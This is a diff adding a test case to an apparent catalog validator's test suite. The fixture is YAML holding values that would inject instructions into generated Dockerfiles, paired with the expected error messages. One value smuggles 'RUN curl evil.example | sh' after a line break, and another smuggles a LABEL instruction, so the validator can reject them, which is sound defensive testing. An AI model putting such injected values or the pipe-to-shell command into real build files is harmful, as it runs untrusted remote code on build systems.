@@ -236,6 +236,29 @@ const cases: { name: string; text: string; errors: (string | RegExp)[] }[] = [
       /^catalog\.yaml:13:35: images\.b\.prepare\.file: file "sub\/\.\." names the folder itself/,
     ],
   },
+  {
+    name: 'values that would break a Dockerfile (no templates needed)',
+    text: yaml`
+      registry: r
+      labels: { vendor: "Acme\\rLABEL x=y" }
+      vars: { motd: "hello\\nRUN curl evil.example | sh" }
+      mirrors: { pypi: "https://pypi.org/simple\\u0007" }
+      images:
+        a:
+          kind: os
+          description: "ends in a backslash \\\\"
+          versions: { "1": { greeting: [ok, "line\\nbreak"] } }
+          variants: { slim: { default: true, note: "tab\\tis fine", other: "bell\\u0007" } }
+    `,
+    errors: [
+      'catalog.yaml:2:19: labels.vendor: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:3:15: vars.motd: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:4:18: mirrors.pypi: value contains a control character (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:8:18: images.a.description: value ends with a backslash, which would continue the line into the next instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:9:39: images.a.versions.1.greeting.1: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:10:69: images.a.variants.slim.other: value contains a control character (values end up in Dockerfiles: keep them on one line)',
+    ],
+  },
 ];
 
 describe('validation errors', () => {
